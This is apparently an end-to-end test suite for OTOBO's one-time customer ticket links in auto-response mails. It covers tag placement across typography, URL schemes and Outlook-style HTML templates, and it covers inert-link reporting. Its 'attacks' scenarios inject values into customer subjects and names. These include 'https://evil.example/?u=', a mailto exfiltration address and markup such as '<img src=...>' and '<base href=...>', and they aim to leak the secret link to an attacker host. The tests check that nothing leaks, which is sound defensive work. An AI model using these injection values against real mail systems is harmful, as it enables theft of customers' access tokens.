import { expect } from "chai";
import type { SentMail } from "../otobo/outbox.ts";
import { linkOf, opensSomething, inertLinkOf } from "./links.ts";
import { mail } from "./mails.ts";
import type { ScenarioGroup, Scenario } from "./scenario.ts";
import { strayPlaces } from "./secret-places.ts";
import { answer, mailIn, newest, opens, tag } from "./steps.ts";
import type { AdminText, TestEnvironment } from "./test-environment.ts";

const htmlTag = "&lt;OTOBO_OTACustomerTicketLink&gt;";

/** An admin writes an auto response, and a customer gets it. */
const autoResponse = async (
  environment: TestEnvironment,
  text: Omit<AdminText, "subject">,
  from?: string,
): Promise<{ sent: SentMail; ticketNumber: string }> => {
  await environment.setAutoResponses({ subject: "Your ticket", ...text });
  const address = environment.freshAddress("placement");
  const { ticketNumber } = await environment.receive(mail({ from: from ? `${from} <${address}>` : address }));
  const sent = newest(await environment.mailsTo(address));
  if (!sent) throw new Error("There is no auto response");
  return { sent, ticketNumber };
};

/** Without OTOBO's editor: all texts are plain. */
const plainText = (environment: TestEnvironment): Promise<void> => environment.set("Frontend::RichText", "0");

/** What admins put around a link, in many languages; LINK for the tag. */
const typography = [
  "„LINK“ “LINK” ‘LINK’ ‚LINK‘ »LINK« «LINK» ‹LINK› „LINK” 「LINK」 'LINK' `LINK`",
  "Ticket:LINK Lien\u00a0:\u00a0LINK 工单：LINK URL=LINK Ticket#1:LINK",
  "*LINK* **LINK** _LINK_ ~LINK~ |LINK| [LINK] {LINK} (LINK) <LINK> <URL:LINK>",
  "–LINK– —LINK— -LINK ->LINK →LINK •LINK 👉LINK👈",
  "LINK… LINK... LINK. LINK! LINK? LINK; LINK, LINK。 LINK！",
];

const plain: Scenario[] = typography.map((line) => ({
  name: `a link in plain text works with what an admin put around it: ${line}`,
  run: async (environment) => {
    await plainText(environment);
    const { sent, ticketNumber } = await autoResponse(environment, {
      text: `Hello!\n\n${line.replaceAll("LINK", tag)}\n\nBye`,
    });
    const link = linkOf(sent);
    for (const word of line.split(" ")) expect(sent.text, word).to.contain(word.replaceAll("LINK", link));
    expect(
      sent.links.every((found) => found === link),
      sent.text,
    ).to.equal(true);
    await opens(link, ticketNumber);
  },
}));

const rich: Scenario = {
  name: "a link in rich text works with what an admin put around it, as text and as a link, each time",
  run: async (environment) => {
    const lines = typography.map((line) => line.replaceAll("<", "&lt;").replaceAll(">", "&gt;"));
    const text = lines.map((line) => `<p>${line.replaceAll("LINK", htmlTag)}</p>`).join("\n");
    const { sent, ticketNumber } = await autoResponse(environment, { html: true, text });
    const link = linkOf(sent);
    const wanted = lines.join(" ").split("LINK").length;
    expect((sent.html ?? "").split(`href="${link}"`), sent.html).to.have.lengthOf(wanted);
    expect((sent.html ?? "").split(`>${link}</a>`), sent.html).to.have.lengthOf(wanted);
    await opens(link, ticketNumber);
  },
};

const schemes: Scenario[] = [
  {
    name: "http://, https:// or mailto: that an editor put before the tag is dropped, in plain text",
    run: async (environment) => {
      await plainText(environment);
      const text = `One: http://${tag}\nTwo: https://${tag}\nThree: mailto:${tag}\nFour: HTTP://${tag}\n`;
      const { sent, ticketNumber } = await autoResponse(environment, { text });
      const link = linkOf(sent);
      for (const count of ["One", "Two", "Three", "Four"])
        expect(sent.text).to.match(new RegExp(`${count}: ${link}\\s`));
      await opens(link, ticketNumber);
    },
  },
  ...[
    `href="http://${htmlTag}"`,
    `href="https://${htmlTag}"`,
    `href="mailto:${htmlTag}"`,
    `href="http://${tag}"`,
    `href="http://%3COTOBO_OTACustomerTicketLink%3E/"`,
    `href="${htmlTag}?utm_source=mail"`,
    `href=${htmlTag}`,
  ].map((href): Scenario => ({
    name: `a link of an editor works, whatever the editor made of the tag: ${href}`,
    run: async (environment) => {
      const { sent, ticketNumber } = await autoResponse(environment, {
        html: true,
        text: `<p><a ${href}>Open</a></p>`,
      });
      expect(sent.html).not.to.match(/https?:\/\/https?:|mailto:/);
      await opens(linkOf(sent), ticketNumber);
    },
  })),
];

/** What templates are made of that look the same in Outlook. */
const corporate = `<!-- header -->
<!--[if mso]><style>td { font-family: Arial }</style><![endif]-->
<table role="presentation" width="600" cellpadding="0"><tr><td bgcolor="#ffffff" data-block="text">
<style>a:hover { color: red }</style>
<svg width="10" height="10"><path d="M0 0h10v10z"/></svg>
<!--[if mso]><v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" href="${htmlTag}" arcsize="10%"><w:anchorlock/><center>Open</center></v:roundrect><![endif]-->
<!--[if !mso]><!--><a href="${htmlTag}" role="button" aria-label="Open" data-track="no" tabindex="0" hreflang="en" referrerpolicy="no-referrer" style="color:#ffffff">Open</a><!--<![endif]-->
<p>Or: <a href="${htmlTag}">${htmlTag}</a></p>
</td></tr></table>`;

const html: Scenario[] = [
  {
    name: "links of a template made for Outlook work: conditional comments, VML, role, aria and data attributes, svg and a style sheet",
    run: async (environment) => {
      const { sent, ticketNumber } = await autoResponse(environment, { html: true, text: corporate });
      const link = linkOf(sent);
      expect((sent.html ?? "").split(`href="${link}"`), sent.html).to.have.lengthOf(4);
      await opens(link, ticketNumber);
    },
  },
  {
    name: "a link in a line of its own in an HTML mail of OTOBO's is a button in the customer's language, with the address below it",
    run: async (environment) => {
      await environment.setAutoResponses({ subject: "Your ticket", html: true, text: `<p>Hello</p><p>${htmlTag}</p>` });
      const address = environment.freshAddress("button");
      await environment.addCustomerUser({ login: address, email: address, language: "de" });
      const { ticketNumber } = await environment.receive(mail({ from: address }));
      const sent = newest(await environment.mailsTo(address));
      const link = linkOf(sent);
      expect(sent?.html).to.match(
        new RegExp(`<a [^>]*href="?${link}"?[^>]*><span[^>]*>Ihr Ticket (?:ö|&ouml;)ffnen</span></a>`),
      );
      expect(sent?.html).to.match(new RegExp(`<a [^>]*href="${link}"[^>]*>${link}</a>`));
      expect(sent?.text).to.contain(link);
      await opens(link, ticketNumber);
    },
  },
];

/** How the sentence about an inert link begins. */
const inert = "The one-time link in the email does not work: ";

const told: Scenario[] = [
  {
    name: "a mail that leaves with a link that opens nothing, because an agent added a Cc, is reported in the ticket's history",
    run: async (environment) => {
      const address = environment.freshAddress("told");
      const { ticketNumber } = await mailIn(environment, address);
      expect((await environment.ticket(ticketNumber)).history.join("\n")).not.to.contain(inert);
      await answer(environment, ticketNumber, { to: address, cc: environment.freshAddress("colleague") });
      const { history } = await environment.ticket(ticketNumber);
      expect(history).to.include(`${inert}the email is not addressed to the registered address alone.`);
    },
  },
  {
    name: "a template that has the tag where no link belongs is reported in OTOBO's log and in the ticket's history",
    run: async (environment) => {
      const text = `<p>Hello <img alt="" src="${htmlTag}"></p>`;
      const { sent, ticketNumber } = await autoResponse(environment, { html: true, text });
      expect(opensSomething(sent)).to.equal(false);
      const sentence = `${inert}it is in an HTML attribute or element where links are not allowed.`;
      expect((await environment.ticket(ticketNumber)).history.join("\n")).to.contain(sentence);
      expect(await environment.otoboLog()).to.contain(`Ticket ${ticketNumber}: ${sentence}`);
    },
  },
];

const evil = "https://evil.example/?u=";

const attacks: Scenario[] = [
  {
    name: "a customer's subject that ends in an address, right before the tag, gets no secret into that address",
    run: async (environment) => {
      for (const isPlain of [true, false]) {
        if (isPlain) await plainText(environment);
        else await environment.set("Frontend::RichText", "1");
        for (const words of [
          evil,
          "evil.example/",
          "//evil.example/",
          `<${evil} `,
          `"${evil} `,
          "mailto:eve@evil.example?body=",
        ]) {
          const address = environment.freshAddress("attacker");
          await environment.setAutoResponses({
            ...{ subject: "Re", html: !isPlain },
            text: isPlain ? `<OTOBO_TICKET_Title>${tag} soon` : `<p>&lt;OTOBO_TICKET_Title&gt;${htmlTag} soon</p>`,
          });
          const { ticketNumber } = await environment.receive(mail({ from: address, subject: words }));
          const sent = newest(await environment.mailsTo(address));
          expect(sent?.text, words).to.contain("evil.example");
          expect(sent && (await strayPlaces(sent)), words).to.deep.equal([]);
          if (!isPlain) continue;
          expect(sent && opensSomething(sent), words).to.equal(false);
          expect((await environment.ticket(ticketNumber)).history.join("\n")).to.contain(
            "it is part of another address",
          );
        }
      }
    },
  },
  {
    name: "a customer's name with an address or markup in it, right before the tag, gets no secret into the address that the name began",
    run: async (environment) => {
      const dear = `<p>Dear &lt;OTOBO_CUSTOMER_REALNAME&gt;${htmlTag} it's here</p><p>Again: ${htmlTag} "bye"</p>`;
      for (const name of [
        evil,
        `<img src='${evil}`,
        `<img src=\\"${evil}`,
        `<!-- `,
        `<svg><style>`,
        `<base href='${evil}'>`,
      ]) {
        const { sent } = await autoResponse(environment, { html: true, text: dear }, `"${name}"`);
        expect(await strayPlaces(sent), `${name}\n${sent.html ?? ""}`).to.deep.equal([]);
      }
    },
  },
  {
    name: "a customer whose registered name has markup in it gets no secret into the address that the name began",
    run: async (environment) => {
      const dear = `<p>Dear &lt;OTOBO_CUSTOMER_REALNAME&gt; ${htmlTag} it's here</p><p>Again: ${htmlTag} "bye"</p>`;
      await environment.setAutoResponses({ subject: "Re", html: true, text: dear });
      for (const lastname of [
        `<img src='${evil}`,
        `<img src="${evil}`,
        "<!-- ",
        "<svg><style>",
        `<base href='${evil}'>`,
      ]) {
        const address = environment.freshAddress("markup");
        await environment.addCustomerUser({ login: address, email: address, lastname });
        const { ticketNumber } = await environment.receive(mail({ from: address }));
        const sent = newest(await environment.mailsTo(address));
        expect(sent?.html, "the name comes as it is").to.contain(lastname);
        expect(sent && (await strayPlaces(sent)), sent?.html).to.deep.equal([]);
        if (sent && opensSomething(sent)) continue;
        expect((await environment.ticket(ticketNumber)).history.join("\n")).to.contain(inert);
      }
    },
  },
  {
    name: "a link that an agent's mail quotes again stays as it was, in whatever typography",
    run: async (environment) => {
      const address = environment.freshAddress("quoted");
      const { ticketNumber, link } = await mailIn(environment, address);
      await environment.send(ticketNumber, { to: address, text: `As I wrote: „${inertLinkOf(link)}“` });
      const sent = newest(await environment.mailsTo(address));
      expect(sent && opensSomething(sent)).to.equal(false);
      expect((await environment.ticket(ticketNumber)).history.join("\n")).not.to.contain(inert);
    },
  },
];

export const tagPlacements: ScenarioGroup = {
  title: "settings: the tag wherever an admin puts it",
  scenarios: [...plain, rich, ...schemes, ...html, ...told, ...attacks],
};
